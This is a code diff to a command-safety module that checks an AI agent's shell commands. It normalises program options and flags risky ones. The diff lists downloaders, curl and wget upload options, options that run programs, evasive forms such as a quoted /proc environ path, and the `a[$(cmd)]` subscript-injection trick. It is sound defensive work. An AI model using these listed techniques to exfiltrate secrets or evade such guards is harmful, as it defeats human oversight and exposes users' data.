@@ -14,6 +14,14 @@ follows commands into `sh -c '…'`, `eval`, `xargs`, `sudo`/`env`/`timeout`-sty
 wrappers and `find -exec`. Every simple command is judged on its own; the strictest
 verdict wins and its reason names the part that caused it.
 
+Before a command's checks run, its options are normalised once: `OPTION_SPECS` here
+says how each program reads them (which take a value, clusters, abbreviations), and
+the policy's `[options.<program>]` says what they do (run a program, write a path,
+name a settings file). `-C/dir`, `-xzf`, `--opt=value` and an unambiguous `--post-f`
+reach every check as `-C /dir`, `-x -z -f`, `--opt value` and `--post-file`. A program
+can always have an option these tables lack; the sandbox (core/sandbox.py) is what
+enforces, and this module is what asks up front and explains.
+
 The overlay may add exact always-allow rules (the "Always allow" button); they lift
 an approval to allow but never a forbid, which always wins. The policy files
 themselves cannot be changed by a tool call: the agent may not change its own rules.
@@ -34,7 +42,7 @@ import os
 import re
 import threading
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from datetime import UTC, datetime
 from enum import StrEnum
 from pathlib import Path
@@ -159,7 +167,7 @@ DOWNLOADERS = frozenset("curl wget fetch aria2c http https httpie xh lwp-request
 DECODERS = frozenset("base64 base32 basenc xxd uudecode openssl".split())
 CURL_UPLOAD_OPTIONS = frozenset(
     """-d --data --data-raw --data-binary --data-urlencode --data-ascii --json -F --form
-    --form-string -T --upload-file""".split()
+    --form-string -T --upload-file --url-query""".split()
 )
 CURL_VALUE_SHORT = frozenset("dDeEFHKoTuUwxXyYzbcACmPQtr")
 CURL_VALUE_LONG = frozenset(
@@ -167,7 +175,7 @@ CURL_VALUE_LONG = frozenset(
     --form-string --upload-file --output --output-dir --request --header --user-agent --user
     --proxy --cookie --cookie-jar --config --referer --max-time --connect-timeout --retry
     --cacert --cert --key --range --write-out --dump-header --continue-at --resolve
-    --max-filesize --limit-rate --proto --url --oauth2-bearer""".split()
+    --max-filesize --limit-rate --proto --url --oauth2-bearer --url-query --variable""".split()
 )
 WGET_UPLOAD_OPTIONS = frozenset("--post-data --post-file --body-data --body-file".split())
 WGET_VALUE_SHORT = frozenset("OoaPeUtTwQiBlDAR")
@@ -212,31 +220,462 @@ WRAPPERS: dict[str, tuple[frozenset[str], frozenset[str], str]] = {
     "builtin": (frozenset(), frozenset(), ""),
     "exec": (frozenset("a"), frozenset(), ""),
     "unbuffer": (frozenset(), frozenset(), ""),
-    "watch": (frozenset("nd"), frozenset({"--interval"}), ""),
     "chroot": (frozenset(), frozenset({"--userspec", "--groups"}), "runs in another root folder"),
 }
 
-#: Options of otherwise read-only commands that write a file (path is checked) …
-OUTPUT_OPTIONS: dict[str, frozenset[str]] = {
-    "sort": frozenset({"-o", "--output"}),
-    "tree": frozenset({"-o"}),
-    "pytest": frozenset({"--junitxml", "--junit-xml", "--basetemp"}),
-    "make": frozenset({"-C", "--directory", "-f", "--file", "--makefile"}),
-}
-#: … or run a program / change the system: approval.
-RISKY_OPTIONS: dict[str, dict[str, str]] = {
-    "rg": {"--pre": "runs a preprocessor program"},
-    "sort": {"--compress-program": "runs a program"},
-    "date": {"-s": "sets the system clock", "--set": "sets the system clock"},
-    "hostname": {"-F": "changes the host name", "--file": "changes the host name"},
-    "tar": dict.fromkeys(
-        """--to-command --checkpoint-action --use-compress-program -I --rsh-command
-        --info-script -F --new-volume-script --rmt-command""".split(),
-        "a tar option that runs a program",
+
+# ── Options: how each program reads them. ────────────────────────────────────────
+@dataclass(frozen=True)
+class OptionSpec:
+    """How one program reads its options: the data both the normaliser and the checks use.
+
+    Why one table: each handler used to re-parse its own options and each missed a form
+    the program accepts — a value glued to its letter (`-C/dir`), letters in a cluster
+    (`-Ic`), `--opt=value`, or a long option cut short (`--post-f` is `--post-file` to
+    getopt_long). The normaliser rewrites every form into `-C /dir`, `-I -c`,
+    `--opt value` and full names once, so a check names each option once.
+    """
+
+    #: Short options followed by a value (`-C dir`, `-Cdir`, `-xC dir`).
+    short_values: frozenset[str] = frozenset()
+    #: Short options with an optional value, which is then always glued (`-i.bak`, `-j4`).
+    short_glued: frozenset[str] = frozenset()
+    #: Long option (full name) -> "value" | "optional" (only as `--opt=value`) | "flag".
+    long: dict[str, str] = field(default_factory=dict)
+    #: Letters combine (`-xzf`); False for programs with one-dash words (`-Wall`, `-cols`).
+    clusters: bool = True
+    #: getopt_long, optparse and git take an unambiguous prefix for the whole name.
+    abbreviations: bool = True
+    #: Options end at the first operand (wrappers, interpreters, git before its subcommand).
+    stop_at_operand: bool = False
+    #: After these (and their value) the rest belongs to someone else (`python -c code …`).
+    ends: frozenset[str] = frozenset()
+    # What the options do comes from the policy ([options.<program>] in
+    # config/policy.toml, which people read and extend), joined in by `_Analysis.spec`:
+    #: Option -> what it does that a person should approve (runs a program, …).
+    runs: dict[str, str] = field(default_factory=dict)
+    #: Options whose value is a path the program writes (checked like a redirection).
+    writes: frozenset[str] = frozenset()
+    #: Options naming a settings file that can load code (plugins, `addopts`, hooks):
+    #: one outside the workspace needs a person.
+    configs: frozenset[str] = frozenset()
+
+    def takes_value(self, option: str) -> bool:
+        if option.startswith("--"):
+            return self.long.get(option) == "value"
+        return len(option) == 2 and option[1] in self.short_values
+
+
+def _spec(
+    short: str = "",
+    long: str = "",
+    *,
+    clusters: bool = True,
+    abbreviations: bool = True,
+    stop: bool = False,
+    ends: str = "",
+) -> OptionSpec:
+    """Read getopt-like text: short `C:` takes a value, `j::` an optional (glued) one;
+    long `name=` takes a value, `name?` an optional one, a bare name is a flag."""
+    values: set[str] = set()
+    glued: set[str] = set()
+    i = 0
+    while i < len(short):
+        letter = short[i]
+        if short[i + 1 : i + 3] == "::":
+            glued.add(letter)
+            i += 3
+        elif short[i + 1 : i + 2] == ":":
+            values.add(letter)
+            i += 2
+        else:
+            i += 1
+    longs: dict[str, str] = {}
+    for item in long.split():
+        if item.endswith("="):
+            longs["--" + item[:-1]] = "value"
+        elif item.endswith("?"):
+            longs["--" + item[:-1]] = "optional"
+        else:
+            longs["--" + item] = "flag"
+    return OptionSpec(
+        frozenset(values),
+        frozenset(glued),
+        longs,
+        clusters,
+        abbreviations,
+        stop,
+        frozenset(ends.split()),
+    )
+
+
+_GCC_LIKE = _spec(
+    "o:B:I:L:D:U:x:",
+    "output= specs=",
+    clusters=False,
+    abbreviations=False,
+)
+_SHELL_SPEC = _spec(
+    "o:O:",
+    """rcfile= init-file= norc noprofile login posix restricted verbose debugger
+    dump-strings dump-po-strings help version pretty-print noediting""",
+    stop=True,
+)
+
+#: Program -> how it reads its options. Programs not listed keep their words as written.
+OPTION_SPECS: dict[str, OptionSpec] = {
+    "make": _spec(
+        "C:f:I:j::l::o:W:E:O::",
+        """directory= file= makefile= include-dir= jobs? load-average? max-load? old-file=
+        assume-old= what-if= new-file= assume-new= eval= debug? output-sync? shuffle?
+        always-make environment-overrides ignore-errors keep-going just-print dry-run recon
+        question silent quiet touch trace print-directory no-print-directory
+        warn-undefined-variables no-builtin-rules no-builtin-variables check-symlink-times
+        print-data-base no-keep-going stop help version""",
     ),
-    "zip": {"-TT": "runs a test program", "--unzip-command": "runs a test program"},
-    "less": {"-o": "writes a log file", "--log-file": "writes a log file"},
+    "cmake": _spec(
+        "C:D:U:G:T:A:S:B:P:",
+        "build= install= preset= toolchain= install-prefix= graphviz= log-level= fresh",
+        clusters=False,
+        abbreviations=False,
+    ),
+    **dict.fromkeys(("gcc", "g++", "cc", "c++", "clang", "clang++"), _GCC_LIKE),
+    "split": _spec(
+        "a:b:C:l:n:t:",
+        """suffix-length= additional-suffix= bytes= line-bytes= lines= number= separator=
+        filter= numeric-suffixes? hex-suffixes? elide-empty-files unbuffered verbose""",
+    ),
+    "sort": _spec(
+        "k:t:o:S:T:",
+        """key= field-separator= output= buffer-size= temporary-directory= compress-program=
+        batch-size= files0-from= parallel= random-source= sort? debug check? ignore-case
+        numeric-sort reverse unique zero-terminated stable merge human-numeric-sort""",
+    ),
+    "tar": _spec(
+        "b:C:f:F:g:H:I:K:L:N:T:V:X:",
+        """to-command= checkpoint-action= use-compress-program= rsh-command= info-script=
+        new-volume-script= rmt-command= index-file= directory= file= files-from=
+        exclude-from= exclude= transform= xform= owner= group= mode= mtime= newer=
+        after-date= format= label= checkpoint? volno-file= listed-incremental=
+        absolute-names extract create list append update get gzip bzip2 xz zstd verbose
+        to-stdout keep-old-files overwrite""",
+    ),
+    "watch": _spec(
+        "n:d::q:",
+        """interval= differences? exec chgexit errexit beep color no-color no-title
+        precise no-wrap no-linewrap equexit=""",
+        stop=True,
+    ),
+    "time": _spec("f:o:", "format= output= append portability verbose quiet", stop=True),
+    "iconv": _spec(
+        "f:t:o:",
+        "from-code= to-code= output= list silent",
+    ),
+    "shuf": _spec(
+        "i:n:o:",
+        "echo input-range= head-count= output= random-source= repeat zero-terminated",
+    ),
+    "pip": _spec(
+        "r:c:e:i:f:t:d:",
+        """log= log-file= cache-dir= src= target= prefix= root= dest= requirement=
+        constraint= editable= index-url= extra-index-url= find-links= python= proxy=
+        timeout= retries= exists-action= cert= client-cert= trusted-host= progress-bar=
+        upgrade-strategy= platform= python-version= implementation= abi= report= no-deps
+        upgrade user quiet verbose no-cache-dir no-input isolated require-virtualenv
+        disable-pip-version-check no-color""",
+    ),
+    "python": _spec(
+        "c:m:W:X:",
+        "help version check-hash-based-pycs=",
+        abbreviations=False,
+        stop=True,
+        ends="-c -m",
+    ),
+    "perl": _spec(
+        "e:E:I:M:m:l::0::i::x::C::d::D::",
+        "",
+        abbreviations=False,
+        stop=True,
+    ),
+    "ruby": _spec(
+        "e:I:r:E:F:C:i::x::W::",
+        "",
+        abbreviations=False,
+        stop=True,
+    ),
+    "node": _spec(
+        "e:p:r:",
+        "eval= print= require= import= loader= experimental-loader= input-type=",
+        abbreviations=False,
+        stop=True,
+        ends="-e --eval -p --print",
+    ),
+    **dict.fromkeys(
+        ("awk", "gawk", "mawk", "nawk"),
+        _spec(
+            "f:v:F:e:i:l:E:",
+            """file= assign= field-separator= source= include= load= exec= characters-as-bytes
+            posix traditional lint? sandbox dump-variables? profile? pretty-print?""",
+        ),
+    ),
+    **dict.fromkeys(
+        ("chmod", "chown", "chgrp"),
+        _spec("", "recursive reference= from= changes silent quiet verbose dereference"),
+    ),
+    "unzip": _spec("d:x:P:", "", abbreviations=False),
+    "7z": _spec("o:p:t:m:x:i:", "", clusters=False, abbreviations=False),
+    "zstd": _spec(
+        "o:D:",
+        "output-dir-flat= output-dir-mirror=",
+    ),
+    "patch": _spec(
+        "d:o:i:p:r:B:D:F:V:Y:z:",
+        "directory= output= input= strip= reject-file= prefix= suffix= basename-prefix=",
+    ),
+    "rsync": _spec(
+        "e:f:B:T:",
+        """rsh= rsync-path= filter= exclude= include= temp-dir= partial-dir= backup-dir=
+        log-file= write-batch= only-write-batch= read-batch= password-file= files-from=""",
+    ),
+    "csplit": _spec(
+        "b:f:n:",
+        "suffix-format= prefix= digits=",
+    ),
+    **dict.fromkeys(SHELLS, _SHELL_SPEC),
+    "git": _spec(
+        "C:c:",
+        """exec-path? git-dir= work-tree= namespace= config-env= super-prefix= paginate
+        no-pager no-replace-objects bare literal-pathspecs glob-pathspecs noglob-pathspecs
+        icase-pathspecs no-optional-locks list-cmds= attr-source= html-path man-path
+        info-path version help""",
+        stop=True,
+    ),
+    "wget": _spec(
+        "O:o:a:P:e:U:t:T:w:Q:i:B:l:D:A:R:",
+        """post-data= post-file= body-data= body-file= method= output-document=
+        directory-prefix= output-file= append-output= execute= header= user-agent= user=
+        password= input-file= base= tries= timeout= wait= quota= level= domains= accept=
+        reject= use-askpass? config= load-cookies= save-cookies= save-headers
+        ca-certificate= certificate= private-key= quiet verbose no-verbose continue
+        recursive mirror spider no-check-certificate server-response""",
+    ),
+    "sed": _spec(
+        "e:f:l:i::E",
+        """expression= file= in-place? line-length= null-data zero-terminated separate
+        sandbox quiet silent posix regexp-extended unbuffered debug follow-symlinks""",
+    ),
+    "rm": _spec(
+        "",
+        """force interactive? one-file-system no-preserve-root preserve-root? recursive dir
+        verbose""",
+    ),
+    **dict.fromkeys(
+        ("grep", "egrep", "fgrep", "zgrep"),
+        _spec(
+            "e:f:m:A:B:C:d:D:",
+            """regexp= file= max-count= after-context= before-context= context= directories=
+            devices= include= exclude= exclude-from= exclude-dir= label= color? colour?
+            binary-files= recursive dereference-recursive ignore-case invert-match
+            word-regexp line-regexp count files-with-matches files-without-match
+            only-matching quiet silent no-messages byte-offset line-number with-filename
+            no-filename null null-data text extended-regexp fixed-strings basic-regexp
+            perl-regexp""",
+        ),
+    ),
+    "rg": _spec(
+        "e:f:g:t:T:m:A:B:C:j:M:r:E:",
+        "pre= pre-glob= regexp= file= glob= iglob= type= type-not= max-count= replace=",
+        abbreviations=False,
+    ),
+    "less": _spec(
+        "o:O:b:h:j:k:p:P:t:T:x:y:z:",
+        "log-file= LOG-FILE= pattern= prompt= tag= tag-file= lesskey-file=",
+    ),
+    "date": _spec(
+        "d:f:r:s:I::",
+        "date= file= reference= set= iso-8601? rfc-3339= utc universal rfc-email debug",
+    ),
+    "hostname": _spec(
+        "F:",
+        "file=",
+    ),
+    "zip": _spec(
+        "",
+        "unzip-command=",
+        clusters=False,
+        abbreviations=False,
+    ),
+    **dict.fromkeys(
+        ("cp", "mv", "install", "ln"),
+        _spec(
+            "t:S:m:o:g:",
+            """target-directory= suffix= backup? mode= owner= group= no-target-directory
+            force interactive recursive archive verbose symbolic parents update? no-clobber""",
+        ),
+    ),
+    "env": _spec(
+        "u:C:S:",
+        "unset= chdir= split-string= ignore-environment null debug",
+        stop=True,
+    ),
+    "xargs": _spec(
+        "a:d:E:I:L:n:P:s:i::e::l::",
+        """arg-file= delimiter= eof? replace? max-lines? max-args= max-procs= max-chars=
+        process-slot-var= null interactive no-run-if-empty open-tty verbose exit
+        show-limits""",
+        stop=True,
+    ),
+    "timeout": _spec("s:k:", "signal= kill-after= foreground preserve-status verbose", stop=True),
+    "ps": _spec(
+        "C:G:g:p:q:s:t:u:U:o:O:N",
+        """pid= ppid= user= User= group= Group= sid= tty= format= sort= cols= columns= rows=
+        lines= width= quick-pid= forest headers no-headers""",
+        abbreviations=False,
+    ),
+    "hash": _spec("p:", "", abbreviations=False),
+    "pytest": _spec(
+        "c:k:m:p:o:",
+        """junitxml= junit-xml= basetemp= rootdir= config-file= confcutdir= cache-dir=
+        override-ini= log-file= report-log= resultlog= pastebin= debug? maxfail=
+        durations= tb= import-mode= pyargs""",
+    ),
+    "tree": _spec("o:L:P:I:", "", abbreviations=False),
+    "ninja": _spec("C:f:j:k:l:t:d:w:", "", abbreviations=False),
+    "sdiff": _spec(
+        "o:w:",
+        "output= width=",
+    ),
+    "man": _spec(
+        "P:H::l:M:m:C:S:s:L:R:",
+        "pager= html? config-file= manpath= sections= locale=",
+    ),
+    "mypy": _spec(
+        "c:m:p:",
+        """cache-dir= config-file= junit-xml= html-report= txt-report= xml-report=
+        linecount-report= any-exprs-report= cobertura-xml-report= lineprecision-report=
+        xslt-html-report= xslt-txt-report= python-executable=""",
+    ),
+    "coverage": _spec(
+        "d:o:",
+        "directory= data-file= rcfile= output=",
+    ),
+    "tsc": _spec(
+        "p:",
+        "outDir= outFile= declarationDir= tsBuildInfoFile= project=",
+        abbreviations=False,
+    ),
+    "eslint": _spec(
+        "c:o:f:",
+        "config= output-file= cache-location= rulesdir= resolve-plugins-relative-to= format=",
+        abbreviations=False,
+    ),
+    "prettier": _spec(
+        "c:",
+        "config= plugin= cache-location= ignore-path=",
+        abbreviations=False,
+    ),
+    "ruff": _spec(
+        "o:",
+        "config= cache-dir= output-file= target-version= extend-select= select= ignore=",
+        abbreviations=False,
+    ),
+    **dict.fromkeys(
+        ("black", "isort"),
+        _spec(
+            "l:t:",
+            "config= settings-path= settings-file= line-length=",
+        ),
+    ),
+    "history": _spec("d:", "", abbreviations=False),
+    "yq": _spec("i", "inplace from-file= output-format= input-format=", abbreviations=False),
 }
+for _name, (_short_values, _long_values, _) in WRAPPERS.items():
+    OPTION_SPECS.setdefault(
+        _name,
+        _spec(
+            "".join(f"{c}:" for c in sorted(_short_values)),
+            " ".join(f"{x[2:]}=" for x in sorted(_long_values)),
+            stop=True,
+        ),
+    )
+
+#: git subcommand -> how it reads its options (the global ones are under "git" above).
+_GIT_NETWORK = _spec(
+    "u:o:b:j:c:",
+    """upload-pack= receive-pack= exec= config= template= origin= branch= depth= jobs=
+    reference= filter= separate-git-dir= shallow-since= shallow-exclude= recurse-submodules?
+    server-option= push-option= repo= remote= all tags prune force dry-run quiet verbose
+    set-upstream rebase? ff-only no-ff mirror bare""",
+)
+_GIT_DIFF = _spec(
+    "n:o:U:M::C::S:G:O:",
+    """output= output-directory= output-indicator-new= output-indicator-old=
+    output-indicator-context= ext-diff no-ext-diff textconv no-textconv max-count= skip=
+    since= until= after= before= author= committer= grep= format= pretty? stat? oneline
+    patch name-only name-status color? word-diff? diff-filter= relative? src-prefix=
+    dst-prefix= abbrev? unified= inter-hunk-context= function-context numstat shortstat
+    cached staged""",
+)
+GIT_SUBCOMMAND_SPECS: dict[str, OptionSpec] = {
+    **dict.fromkeys(
+        ("clone", "fetch", "pull", "push", "ls-remote", "remote", "submodule"), _GIT_NETWORK
+    ),
+    **dict.fromkeys(
+        ("diff", "log", "show", "format-patch", "whatchanged", "range-diff", "shortlog"),
+        _GIT_DIFF,
+    ),
+    "archive": _spec(
+        "o:",
+        "output= remote= exec= format= prefix= add-file= add-virtual-file= list verbose",
+    ),
+    "grep": _spec(
+        "e:f:m:A:B:C:O::",
+        """open-files-in-pager? max-depth= threads= context= after-context= before-context=
+        max-count= file= and or not untracked no-index cached recurse-submodules
+        ignore-case word-regexp invert-match line-number count files-with-matches""",
+    ),
+    "rebase": _spec(
+        "x:s:X:",
+        """exec= onto= strategy= strategy-option= interactive autosquash autostash continue
+        abort skip root""",
+    ),
+    "init": _spec(
+        "b:",
+        "template= separate-git-dir= initial-branch= shared? object-format= bare quiet",
+    ),
+    "apply": _spec(
+        "p:C:",
+        "directory= unsafe-paths index cached check stat reverse reject",
+    ),
+    "commit": _spec(
+        "m:F:C:c:t:",
+        """message= file= template= reuse-message= reedit-message= author= date= fixup=
+        squash= cleanup= trailer= all amend no-edit no-verify signoff allow-empty quiet""",
+    ),
+}
+
+#: `python -m MODULE` with these modules is ordinary work; any other module needs a
+#: person (each module has its own options: http.server serves files, zipfile writes).
+PYTHON_MODULES_OK = frozenset(
+    "pytest unittest doctest mypy ruff black isort flake8 pylint pyright coverage timeit"
+    " tabnanny pyflakes pydoc_data this".split()
+)
+#: Shell built-ins that evaluate an array subscript in their argument as arithmetic, so a
+#: literal `a[$(cmd)]` runs cmd (`test -v`, `printf -v`, `[[ … -eq … ]]`, `read`, …).
+SUBSCRIPT_BUILTINS = frozenset(
+    "test [ [[ printf declare typeset local read unset let export readonly mapfile readarray"
+    " wait".split()
+)
+#: Built-ins that set or export a variable named by an argument (`read PATH`,
+#: `declare -x LESSOPEN=…`, `export LD_PRELOAD` after setting it some other way).
+VARIABLE_SETTERS = frozenset(
+    "export declare typeset local readonly read printf mapfile readarray getopts".split()
+)
+_ENV_NAME_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
+ARITHMETIC_TESTS = frozenset("-eq -ne -lt -le -gt -ge".split())
+#: `$#`, `$?`, `${#x}`, `$$`, `$!`: always a number.
+_SPECIAL_PARAM_RE = re.compile(r"^\"?\$(?:[#?$!]|\{#[^}]*\})\"?$")
+_SUBSCRIPT_CODE_RE = re.compile(r"\[[^\]]*(?:\$\(|`|\$\{)")
 
 #: Commands that delete or modify their arguments (for `xargs rm`, `find -exec rm`).
 DESTRUCTIVE = frozenset(
@@ -331,6 +770,168 @@ class _Cmd:
     @property
     def args(self) -> list[_Word]:
         return self.words[1:]
+
+
+def _plain(text: str) -> bool:
+    """Option letters as written, with no quote or expansion inside (`--$x` is not)."""
+    return re.fullmatch(r"-{1,2}[A-Za-z0-9][A-Za-z0-9_.+-]*", text) is not None
+
+
+def _value_word(word: _Word, start: int) -> _Word:
+    """The part of `word` from `start` on, as a word of its own (`-C/dir` → `/dir`)."""
+    if word.value is not None:
+        return _Word(word.value[start:], word.value[start:], word.node)
+    return _Word(word.raw[start:], None, word.node)
+
+
+def _long_name(name: str, spec: OptionSpec) -> tuple[str, list[str]]:
+    """`--post-f` → `--post-file` where the prefix names one known option; else the
+    name as written and, when the prefix fits several, those candidates."""
+    if name in spec.long or not spec.abbreviations:
+        return name, []
+    hits = [full for full in spec.long if full.startswith(name)]
+    if len(hits) == 1:
+        return hits[0], []
+    return name, hits
+
+
+def normalise_options(
+    words: list[_Word], spec: OptionSpec, ambiguous: Callable[[str, list[str]], None]
+) -> list[_Word]:
+    """Rewrite a program's arguments into one form: `-C /dir`, `-I -c`, `--opt value`, and
+    full long names. Operands and anything the spec does not know are kept as written.
+
+    `ambiguous` hears about a prefix that fits several known options (the program
+    refuses those, unless it knows an option we do not: the caller decides).
+    """
+    out: list[_Word] = []
+    i, n = 0, len(words)
+    while i < n:
+        word = words[i]
+        text = word.text
+        if text == "--":
+            out.extend(words[i:])
+            break
+        if text.startswith("--") and len(text) > 2:
+            name, eq, _ = text.partition("=")
+            if not _plain(name):
+                out.append(word)
+                i += 1
+                continue
+            full, hits = _long_name(name, spec)
+            if hits:
+                ambiguous(name, hits)
+            kind = spec.long.get(full)
+            if eq and kind == "value":
+                out += [_Word(full, full), _value_word(word, len(name) + 1)]
+            elif not eq and kind == "value" and i + 1 < n:
+                out += [_Word(full, full), words[i + 1]]
+                i += 1
+            elif full != name:
+                rest = _value_word(word, len(name))
+                joined = full + (rest.value if rest.value is not None else rest.raw)
+                out.append(_Word(joined, joined if rest.value is not None else None, word.node))
+            else:
+                out.append(word)
+            if full in spec.ends:
+                out.extend(words[i + 1 :])
+                break
+            i += 1
+            continue
+        if text.startswith("-") and len(text) > 1 and not text[1].isdigit():
+            pieces, consumed, end = _short_cluster(words, i, spec)
+            out += pieces
+            i += 1 + consumed
+            if end:
+                out.extend(words[i:])
+                break
+            continue
+        if spec.stop_at_operand and not text.startswith("+"):
+            out.extend(words[i:])
+            break
+        out.append(word)
+        i += 1
+    return out
+
+
+def _short_cluster(words: list[_Word], i: int, spec: OptionSpec) -> tuple[list[_Word], int, bool]:
+    """Split `-xzfout.tgz` / `-Cdir` / `-Ic`: (words, next words used as a value, ends)."""
+    word = words[i]
+    text = word.text
+    letters = text[1:]
+    if not spec.clusters:
+        if text[1] in spec.short_values and text[:2] not in spec.long:
+            if len(text) > 2 and _plain(text[:2]):
+                return [_Word(text[:2], text[:2]), _value_word(word, 2)], 0, False
+            if len(text) == 2 and i + 1 < len(words):
+                return [word, words[i + 1]], 1, False
+        return [word], 0, False
+    pieces: list[_Word] = []
+    for k, letter in enumerate(letters):
+        if not letter.isalnum():  # a quote or `$` inside: keep the word as written
+            return [word], 0, False
+        option = "-" + letter
+        if letter in spec.short_values:
+            pieces.append(_Word(option, option))
+            used = 0
+            if k + 2 < len(text):
+                pieces.append(_value_word(word, k + 2))
+            elif i + 1 < len(words):
+                pieces.append(words[i + 1])
+                used = 1
+            return pieces, used, option in spec.ends
+        if letter in spec.short_glued:
+            pieces.append(_Word(option, option))
+            if k + 2 < len(text):
+                rest = _value_word(word, k + 2)
+                glued = option + (rest.value if rest.value is not None else rest.raw)
+                pieces[-1] = _Word(glued, glued if rest.value is not None else None, word.node)
+            return pieces, 0, False
+        pieces.append(_Word(option, option))
+    return pieces, 0, False
+
+
+def _operands(words: list[_Word], spec: OptionSpec) -> list[_Word]:
+    """The operands of normalised words: options and their values left out."""
+    out: list[_Word] = []
+    i = 0
+    while i < len(words):
+        text = words[i].text
+        if text == "--":
+            return out + words[i + 1 :]
+        if text.startswith("-") and text != "-":
+            i += 2 if spec.takes_value(text) else 1
+            continue
+        out.append(words[i])
+        i += 1
+    return out
+
+
+def _git_runs_it(path: str | None) -> bool:
+    """Is `path` a git repository's config, a hook, or the `.git` entry itself (a `.git`
+    file may point anywhere with `gitdir:`)? Writing them turns a later `git status`
+    or `git commit` into any program."""
+    if path is None:
+        return False
+    parts = path.split("/")
+    if ".git" not in parts:
+        return False
+    after = parts[len(parts) - parts[::-1].index(".git") :]
+    return (
+        not after
+        or after[-1] == "config"
+        or "hooks" in after
+        or after[:2] == ["info", "attributes"]
+    )
+
+
+def _risky_env(policy: Policy, name: str) -> bool:
+    """Listed in [environment] risky, exactly or under a `PREFIX*` entry (GIT_CONFIG_*)."""
+    if name in policy.risky_env_vars:
+        return True
+    return any(
+        entry.endswith("*") and name.startswith(entry[:-1]) for entry in policy.risky_env_vars
+    )
 
 
 def _rank(v: Verdict) -> int:
@@ -477,7 +1078,12 @@ class _Analysis:
     """One shell command's walk: collects findings; the strictest one is the decision."""
 
     def __init__(
-        self, root: str, home: str, policy: Policy, guarded: frozenset[str] = frozenset()
+        self,
+        root: str,
+        home: str,
+        policy: Policy,
+        guarded: frozenset[str] = frozenset(),
+        private: frozenset[str] = frozenset(),
     ) -> None:
         self.root = root
         self.home = home
@@ -485,11 +1091,17 @@ class _Analysis:
         self.protected = policy.protected_dirs | {home}
         #: The policy files themselves (real and lexical paths): changing them is refused.
         self.guarded = guarded
+        #: Steward's own data dir (lexical and real): approvals, access list, memory.
+        self.private = private
         self.findings: list[Decision] = []
         self.downloaded: set[str] = set()
         self.src = ""
         self.quoted_heredocs: set[str] = set()
         self.ifs_changed = False
+        #: Option specs with the policy's risks joined in, per program (see `spec`).
+        self._specs: dict[str, OptionSpec | None] = {}
+        #: The text had `[[ … ]]`, judged as `[ … ]`, whose -eq/-lt… evaluate arithmetic.
+        self.double_bracket = False
         #: Files this command writes before it may run them: real path -> text (None: unknown).
         self.written: dict[str, str | None] = {}
         #: `$((…))` expressions, replaced by placeholder variables before parsing.
@@ -529,6 +1141,8 @@ class _Analysis:
         if re.search(r"\bIFS=", text):
             self.ifs_changed = True
         prepared = _TIME_RE.sub(lambda m: f"{m.group(1)}{m.group(2)}\\time", text)
+        if _DOUBLE_BRACKET_RE.search(prepared):
+            self.double_bracket = True
         prepared = _DOUBLE_BRACKET_RE.sub(lambda m: m.group(0)[0], prepared)
         prepared = self.hide_arithmetic(prepared)
         for m in _QUOTED_HEREDOC_RE.finditer(prepared):
@@ -744,6 +1358,20 @@ class _Analysis:
                 value = None if folded is None or value is None else value.replace(text, folded, 1)
             elif kind == "parameter":
                 param = getattr(part, "value", "") or ""
+                if param.startswith("!") and re.fullmatch(r"![A-Za-z_]\w*", param):
+                    target = self.variable(param[1:], scope)
+                    if target is None or not re.fullmatch(r"[A-Za-z_]\w*", target):
+                        self.flag(
+                            Verdict.APPROVAL,
+                            f"`{_short(text)}` expands the variable named by a value only known "
+                            "at run time (a name like `a[$(cmd)]` runs cmd)",
+                        )
+                if re.search(r"@P$", param):
+                    self.flag(
+                        Verdict.APPROVAL,
+                        f"`{_short(text)}` expands a prompt string, which runs the commands "
+                        "inside the value",
+                    )
                 if "$(" in param or "`" in param:
                     for inner in _embedded_commands(param):
                         self.nested(inner, scope, f"`{_short(text)}`")
@@ -829,6 +1457,10 @@ class _Analysis:
                     matches = self.expand_glob(value, scope)
                     texts += matches + self.glob_reaches_credentials(value, scope)
                     concrete += matches
+                    if p.lexical is not None and any(
+                        _under(x, d) for d in self.private for x in (p.lexical, p.real or "")
+                    ):
+                        concrete.append(os.path.join(p.lexical, "*"))  # what the glob reaches
                 elif p.lexical is not None:
                     texts += [x for x in (p.lexical, p.real) if x]
                     concrete.append(p.lexical)
@@ -837,6 +1469,22 @@ class _Analysis:
                         Verdict.APPROVAL,
                         f"{where} uses `{value}` in a folder only known at run time",
                     )
+        if word.value is None:
+            # `/proc/$PPID/envi''ron`: judge the shape too, quotes removed
+            shape = re.sub(r"[\'\"\\]", "", word.raw)
+            texts.append(shape)
+            base = os.path.basename(shape.rstrip("/"))
+            if "$" not in base and "`" not in base and self.policy.is_env_file(base):
+                self.flag(
+                    Verdict.APPROVAL,
+                    f"{where} uses `{base}` in a folder only known at run time",
+                )
+            if re.search(r"(?:^|[\s=:])/proc\b", shape):
+                self.flag(
+                    Verdict.APPROVAL,
+                    f"{where} names a /proc path only known at run time (another process's "
+                    "files and environment are there)",
+                )
         for text in texts:
             for cred in self.policy.credentials:
                 if cred.regex.search(text):
@@ -844,6 +1492,13 @@ class _Analysis:
                     return
         for path in concrete:
             real = os.path.realpath(path)
+            if self.reads_private(path, real):
+                self.flag(
+                    Verdict.FORBID,
+                    f"{where} uses Steward's own data dir ({path}): its approvals, access "
+                    "list and memory are not the agent's to read or change",
+                )
+                return
             names = (os.path.basename(path), os.path.basename(real))
             if any(self.policy.is_env_file(n) for n in names) and not _under(real, self.root):
                 self.flag(
@@ -884,11 +1539,22 @@ class _Analysis:
         return hits
 
     def holds_credentials(self, p: _Path) -> bool:
-        """Is `p` the home folder, a folder above it, or /etc (reading all of it reads secrets)?"""
+        """Is `p` the home folder, a folder above it, /etc, or a folder outside the workspace
+        holding Steward's data dir (reading all of it reads secrets)?"""
         real = p.real or p.lexical
         if real is None:
             return False
+        if any(_under(d, real) for d in self.private) and not _under(real, self.root):
+            return True
         return real in ("/etc", "/root") or _under(self.home, real) or _under("/root", real)
+
+    def reads_private(self, lexical: str, real: str) -> bool:
+        """Is this path in Steward's data dir (the policy files there may be read)?"""
+        if lexical in self.guarded or real in self.guarded:
+            return False
+        # Below it: the folder as a whole is judged by what is done to it (a search through
+        # it needs approval, deleting or moving it takes the policy file along).
+        return any(_under(x, d) and x != d for d in self.private for x in (lexical, real))
 
     def policy_file(self, p: _Path, *, holding: bool = False) -> bool:
         """Is `p` one of the guardian's own policy files (or, `holding`, a folder above one)?"""
